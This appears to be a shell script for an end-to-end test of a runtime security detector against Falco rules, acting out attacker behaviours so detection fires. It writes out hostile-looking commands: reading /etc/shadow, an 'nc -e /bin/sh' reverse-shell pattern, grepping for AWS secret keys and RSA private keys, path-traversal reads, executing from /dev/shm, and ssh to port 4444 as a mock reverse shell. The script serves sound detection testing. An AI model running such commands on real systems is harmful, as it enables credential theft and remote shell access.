#!/bin/sh
# Attack steps for the Falco-fields e2e test. Like ../e2e/attack.sh, but the programs
# whose /proc entries the rules read stay alive a moment (see docs/rules.md: values
# read from /proc are missing for a process that is gone before the agent looks).
# usage: attack.sh WORK HELPER LINGER [ACTOR]   (ACTOR: ../guardduty/actor.c, built)
set -u
WORK=$1
HELPER=$2
LINGER=$3
ACTOR=${4:-}
TAG=th-falco-$$

cp "$HELPER" "$WORK/nginx" && "$WORK/nginx" shell
python3 -c 'import time; open("/etc/shadow").read(); time.sleep(0.3)'
echo x > "/etc/$TAG" && rm -f "/etc/$TAG"
cp "$LINGER" "$WORK/dropped" && chmod +x "$WORK/dropped" && "$WORK/dropped"
"$HELPER" memfd
"$HELPER" dup
cp "$LINGER" "$WORK/nc" && "$WORK/nc" -e /bin/sh 127.0.0.1 9
cp "$LINGER" "$WORK/dpkg" && "$WORK/dpkg" --version
python3 "$(dirname "$0")/../credential_probe.py"
"$HELPER" ptrace
grep -r aws_secret_access_key "$WORK" > /dev/null 2>&1
mkdir -p /var/log && echo old > "/var/log/$TAG.log" && : > "/var/log/$TAG.log"
rm -f "/var/log/$TAG.log"
"$HELPER" setuid
cat /usr/share/../../etc/hostname > /dev/null
# More of Falco's stable rules' own attacks (acted out when the actor is given).
if [ -n "$ACTOR" ]; then
    # A server reading a sensitive file long after its start-up (Falco: > 5 s).
    mkdir -p "$WORK/srv" && cp "$ACTOR" "$WORK/srv/nginx"
    "$WORK/srv/nginx" read /etc/shadow 6 &
    LATE=$!
    ln -s /etc/shadow "$WORK/shadow-link"
    ln /etc/shadow "$WORK/shadow-hard" 2> /dev/null; rm -f "$WORK/shadow-hard"
    python3 -c 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW).close()' 2> /dev/null
    "$ACTOR" module
    "$ACTOR" release_agent
    "$ACTOR" traceme
    cp "$LINGER" /dev/shm/$TAG && /dev/shm/$TAG; rm -f /dev/shm/$TAG
    grep -rl "BEGIN RSA PRIVATE" "$WORK" > /dev/null 2>&1
    echo junk > "$WORK/junk" && shred -u "$WORK/junk"
    # A path traversal read by a process whose parent is no shell (a web app's helper).
    "$ACTOR" spawn "$ACTOR" read /usr/share/../../etc/shadow
    # A system user running an interactive login program (it must be able to exec it).
    mkdir -p "/tmp/$TAG" && cp "$LINGER" "/tmp/$TAG/login" && chmod 755 "/tmp/$TAG" "/tmp/$TAG/login"
    setpriv --reuid=65534 --regid=65534 --clear-groups "/tmp/$TAG/login"
    rm -rf "/tmp/$TAG"
    # debugfs (the real one) in a container that holds every capability.
    debugfs -V > /dev/null 2>&1
    # ssh out to a port ssh has no business on (a reverse shell over SSH): the connect
    # is in progress when the tracer sees its result, and times out after a second.
    ssh -o BatchMode=yes -o ConnectTimeout=1 -o StrictHostKeyChecking=no \
        -p 4444 198.51.100.1 true > /dev/null 2>&1
    wait "$LATE"
fi
exit 0
